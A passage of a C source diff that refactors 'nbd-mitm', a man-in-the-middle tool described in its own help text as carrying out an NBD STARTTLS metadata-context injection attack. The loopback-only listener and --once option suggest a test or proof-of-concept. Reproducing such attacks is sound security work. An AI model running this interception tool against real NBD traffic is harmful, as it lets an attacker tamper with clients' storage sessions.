+      r = relay_request (rl);
       if (r <= 0)
         return r;
     }
     if (b) {
-      r = relay_reply (s);
+      r = relay_reply (rl);
       if (r <= 0)
         return r;
     }
@@ -758,18 +706,18 @@ static int
 handle_client (int fd, void *opaque)
 {
   const struct mitm *m = opaque;
-  struct session s;
+  struct relay rl;
   uint8_t buf[WIRE_GREETING_LEN];
   uint16_t hflags;
   uint32_t cflags;
   int upfd, status = 1;
   size_t i;
 
-  memset (&s, 0, sizeof s);
-  s.m = m;
-  wire_buf_init (&s.out);
-  s.cl = tport_new (fd);
-  if (s.cl == NULL) {
+  memset (&rl, 0, sizeof rl);
+  rl.m = m;
+  wire_buf_init (&rl.out);
+  rl.cl = tport_new (fd);
+  if (rl.cl == NULL) {
     log_msg ("tport_new: %m");
     close (fd);
     return 1;
@@ -781,8 +729,8 @@ handle_client (int fd, void *opaque)
              m->up_unix ? m->up_unix : m->up_tcp);
     goto out;
   }
-  s.up = tport_new (upfd);
-  if (s.up == NULL) {
+  rl.up = tport_new (upfd);
+  if (rl.up == NULL) {
     log_msg ("tport_new: %m");
     close (upfd);
     goto out;
@@ -790,7 +738,7 @@ handle_client (int fd, void *opaque)
   log_debug ("client accepted; connected to the server");
 
   /* Step 1: greeting and flags, unchanged. */
-  if (xread (&s, s.up, buf, WIRE_GREETING_LEN, NEGOTIATE_TIMEOUT,
+  if (xread (&rl, rl.up, buf, WIRE_GREETING_LEN, NEGOTIATE_TIMEOUT,
              false) != 1)
     goto out;
   if (wire_dec_greeting (buf, WIRE_GREETING_LEN, &hflags) != WIRE_OK ||
@@ -799,8 +747,8 @@ handle_client (int fd, void *opaque)
     goto out;
   }
   log_debug ("server -> client: greeting, flags 0x%x", hflags);
-  if (xwrite (&s, s.cl, buf, WIRE_GREETING_LEN) == -1 ||
-      xread (&s, s.cl, buf, 4, NEGOTIATE_TIMEOUT, false) != 1)
+  if (xwrite (&rl, rl.cl, buf, WIRE_GREETING_LEN) == -1 ||
+      xread (&rl, rl.cl, buf, 4, NEGOTIATE_TIMEOUT, false) != 1)
     goto out;
   wire_dec_client_flags (buf, 4, &cflags);
   log_debug ("client -> server: flags 0x%" PRIx32, cflags);
@@ -808,121 +756,142 @@ handle_client (int fd, void *opaque)
     log_msg ("the client does not speak fixed newstyle");
     goto out;
   }
-  s.no_zeroes = (cflags & NBD_FLAG_C_NO_ZEROES) &&
+  rl.no_zeroes = (cflags & NBD_FLAG_C_NO_ZEROES) &&
     (hflags & NBD_FLAG_NO_ZEROES);
-  if (xwrite (&s, s.up, buf, 4) == -1)
+  if (xwrite (&rl, rl.up, buf, 4) == -1)
     goto out;
 
   /* Steps 2 and 3. */
-  if (negotiate (&s) != NEG_TRANSMIT) {
+  if (negotiate (&rl) != NEG_TRANSMIT) {
     status = 0;
     goto out;
   }
   log_debug ("transmission phase: relaying");
 
   /* Step 4. */
-  status = transmit (&s) == 0 ? 0 : 1;
+  status = transmit (&rl) == 0 ? 0 : 1;
   log_debug ("connection finished");
 
  out:
-  tport_free (s.cl);
-  tport_free (s.up);
-  wire_buf_free (&s.out);
-  for (i = 0; i < s.nids; ++i)
-    free (s.names[i]);
-  free (s.reads);
+  tport_free (rl.cl);
+  tport_free (rl.up);
+  wire_buf_free (&rl.out);
+  for (i = 0; i < rl.nids; ++i)
+    free (rl.names[i]);
+  free (rl.reads);
   return status;
 }
 
 /* --- main ---------------------------------------------------------- */
 
+enum { OPT_LUNIX = 256, OPT_LTCP, OPT_UUNIX, OPT_UTCP, OPT_IEXPORT,
+       OPT_ICTX, OPT_PIDFILE, OPT_ONCE };
+
+static const struct cli_option options[] = {
+  { "listen-unix", OPT_LUNIX, "PATH", "accept clients on this Unix socket",
+    NULL },
+  { "listen-tcp", OPT_LTCP, "HOST:PORT", "accept clients here (loopback only)",
+    NULL },
+  { "upstream-unix", OPT_UUNIX, "PATH", "the real server's Unix socket",
+    NULL },
+  { "upstream-tcp", OPT_UTCP, "HOST:PORT", "the real server", NULL },
+  CLI_OPT_TLS_PSK ("PSK file: any user towards the client, the\n"
+                   "--tls-username user upstream"),
+  CLI_OPT_TLS_USERNAME ("PSK user upstream (default qemu)"),
+  CLI_OPT_TLS_CERTS ("ca-cert.pem, server-cert.pem/server-key.pem\n"
+                     "towards the client, client-cert.pem/client-key.pem\n"
+                     "upstream"),
+  { "inject-export", OPT_IEXPORT, "NAME",
+    "export named in the injected SET_META_CONTEXT\n"
+    "(default \"\", the default export)", NULL },
+  { "inject-context", OPT_ICTX, "QUERY",
+    "query to inject (repeatable, at most 16; default\n"
+    "base:allocation)", NULL },
+  { "pidfile", OPT_PIDFILE, "FILE", "write the PID here once listening",
+    NULL },
+  { "once", OPT_ONCE, NULL, "handle one client in-process, then exit", NULL },
+  CLI_OPT_VERBOSE ("log every step to stderr"),
+  { NULL },
+};
+
+/* What the command line sets. */
+struct args {
+  struct mitm *m;
+  struct listener_cfg *lc;
+};
+
+static int
+handle_option (int key, const char *arg, void *opaque, struct error *err)
+{
+  struct args *a = opaque;
+  struct mitm *m = a->m;
+
+  switch (key) {
+  case OPT_LUNIX: a->lc->unix_path = arg; return 0;
+  case OPT_LTCP: a->lc->tcp = arg; return 0;
+  case OPT_PIDFILE: a->lc->pidfile = arg; return 0;
+  case OPT_ONCE: a->lc->once = true; return 0;
+  case OPT_UUNIX: m->up_unix = arg; return 0;
+  case OPT_UTCP: m->up_tcp = arg; return 0;
+  case OPT_IEXPORT: m->inject_export = arg; return 0;
+  case OPT_ICTX:
+    if (m->ninject_ctx == MAX_INJECT)
+      return error_set (err, "at most %d of them", MAX_INJECT);
+    m->inject_ctx[m->ninject_ctx++] = arg;
+    return 0;
+  }
+  return -1;
+}
+
+static const struct cli_tool tool = {
+  .name = "nbd-mitm",
+  .options = options,
+  .handle = handle_option,
+  .tls_required = true,
+  .error_status = 1,
+  .synopsis =
+  "usage: nbd-mitm (--listen-unix PATH | --listen-tcp HOST:PORT)\n"
+  "                (--upstream-unix PATH | --upstream-tcp HOST:PORT)\n"
+  "                (--tls-psk FILE [--tls-username NAME] | --tls-certs DIR)\n"
+  "                [--inject-export NAME] [--inject-context QUERY]...\n"
+  "                [--pidfile FILE] [--once] [-v]\n",
+  .about =
+  "A man in the middle for the NBD STARTTLS metadata-context attack.  When\n"
+  "the client sends NBD_OPT_STARTTLS, nbd-mitm sends the server\n"
+  "NBD_OPT_STRUCTURED_REPLY and NBD_OPT_SET_META_CONTEXT in plaintext,\n"
+  "upgrades the server connection, then terminates TLS towards the client\n"
+  "with its own credentials.  It answers the client's SET_META_CONTEXT\n"
+  "itself with the server's ids for the injected contexts, and relays\n"
+  "everything else.\n",
+};
+
 int
 main (int argc, char *argv[])
 {
-  enum { OPT_LUNIX = 256, OPT_LTCP, OPT_UUNIX, OPT_UTCP, OPT_PSK, OPT_USER,
-         OPT_CERTS, OPT_IEXPORT, OPT_ICTX, OPT_PIDFILE, OPT_ONCE, OPT_HELP };
-  static const struct option long_opts[] = {
-    { "listen-unix", required_argument, NULL, OPT_LUNIX },
-    { "listen-tcp", required_argument, NULL, OPT_LTCP },
-    { "upstream-unix", required_argument, NULL, OPT_UUNIX },
-    { "upstream-tcp", required_argument, NULL, OPT_UTCP },
-    { "tls-psk", required_argument, NULL, OPT_PSK },
-    { "tls-username", required_argument, NULL, OPT_USER },
-    { "tls-certs", required_argument, NULL, OPT_CERTS },
-    { "inject-export", required_argument, NULL, OPT_IEXPORT },
-    { "inject-context", required_argument, NULL, OPT_ICTX },
-    { "pidfile", required_argument, NULL, OPT_PIDFILE },
-    { "once", no_argument, NULL, OPT_ONCE },
-    { "verbose", no_argument, NULL, 'v' },
-    { "help", no_argument, NULL, OPT_HELP },
-    { NULL, 0, NULL, 0 },
-  };
   struct mitm m;
   struct listener_cfg lc = { NULL, NULL, NULL, false };
-  struct tport_creds_cfg cc = { NULL, NULL, NULL, false };
+  struct args a = { &m, &lc };
+  struct cli_common cl;
   bool is_child;
-  struct error err;
-  int c, status;
+  int status;
 
   log_progname = "nbd-mitm";
   memset (&m, 0, sizeof m);
   m.inject_export = "";
-
-  while ((c = getopt_long (argc, argv, "v", long_opts, NULL)) != -1) {
-    switch (c) {
-    case OPT_LUNIX: lc.unix_path = optarg; break;
-    case OPT_LTCP: lc.tcp = optarg; break;
-    case OPT_UUNIX: m.up_unix = optarg; break;
-    case OPT_UTCP: m.up_tcp = optarg; break;
-    case OPT_PSK: cc.psk_file = optarg; break;
-    case OPT_USER: cc.psk_username = optarg; break;
-    case OPT_CERTS: cc.x509_dir = optarg; break;
-    case OPT_IEXPORT: m.inject_export = optarg; break;
-    case OPT_ICTX:
-      if (m.ninject_ctx == MAX_INJECT) {
-        fprintf (stderr, "nbd-mitm: at most %d --inject-context\n",
-                 MAX_INJECT);
-        usage (stderr, 1);
-      }
-      m.inject_ctx[m.ninject_ctx++] = optarg;
-      break;
-    case OPT_PIDFILE: lc.pidfile = optarg; break;
-    case OPT_ONCE: lc.once = true; break;
-    case 'v': log_verbose = 1; break;
-    case OPT_HELP: usage (stdout, 0);
-    default: usage (stderr, 1);
-    }
-  }
-  if (optind != argc || (lc.unix_path == NULL) == (lc.tcp == NULL)) {
-    fprintf (stderr,
-             "nbd-mitm: give exactly one of --listen-unix and --listen-tcp\n");
-    usage (stderr, 1);
-  }
-  if ((m.up_unix == NULL) == (m.up_tcp == NULL)) {
-    fprintf (stderr, "nbd-mitm: give exactly one of --upstream-unix and "
-             "--upstream-tcp\n");
-    usage (stderr, 1);
-  }
-  if ((cc.psk_file == NULL) == (cc.x509_dir == NULL)) {
-    fprintf (stderr,
-             "nbd-mitm: give exactly one of --tls-psk and --tls-certs\n");
-    usage (stderr, 1);
-  }
+  cli_parse (&tool, argc, argv, &a, &cl);
+  log_verbose = cl.verbose;
+  if ((lc.unix_path == NULL) == (lc.tcp == NULL))
+    cli_usage_error (&tool, "give exactly one of --listen-unix and "
+                     "--listen-tcp");
+  if ((m.up_unix == NULL) == (m.up_tcp == NULL))
+    cli_usage_error (&tool, "give exactly one of --upstream-unix and "
+                     "--upstream-tcp");
   if (m.ninject_ctx == 0)
     m.inject_ctx[m.ninject_ctx++] = "base:allocation";
 
   tport_global_init (0);
-  m.server_creds = tport_creds_new (TPORT_SERVER, &cc, &err);
-  if (m.server_creds == NULL) {
-    log_msg ("cannot load server-side TLS credentials: %s", err.msg);
-    return 1;
-  }
-  m.client_creds = tport_creds_new (TPORT_CLIENT, &cc, &err);
-  if (m.client_creds == NULL) {
-    log_msg ("cannot load client-side TLS credentials: %s", err.msg);
-    tport_creds_free (m.server_creds);
-    return 1;
-  }
+  m.server_creds = cli_creds (&tool, &cl.tls, TPORT_SERVER);
+  m.client_creds = cli_creds (&tool, &cl.tls, TPORT_CLIENT);
 
   status = listener_run (&lc, handle_client, &m, &is_child);
 
